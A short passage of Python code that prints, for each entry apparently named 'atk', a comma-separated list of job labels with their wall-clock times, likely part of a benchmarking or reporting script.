        walls = ", ".join(f"{o.job.label} {o.wall:.1f}" for o in atk.outcomes)
        print(f"  {atk.name}: {walls}")
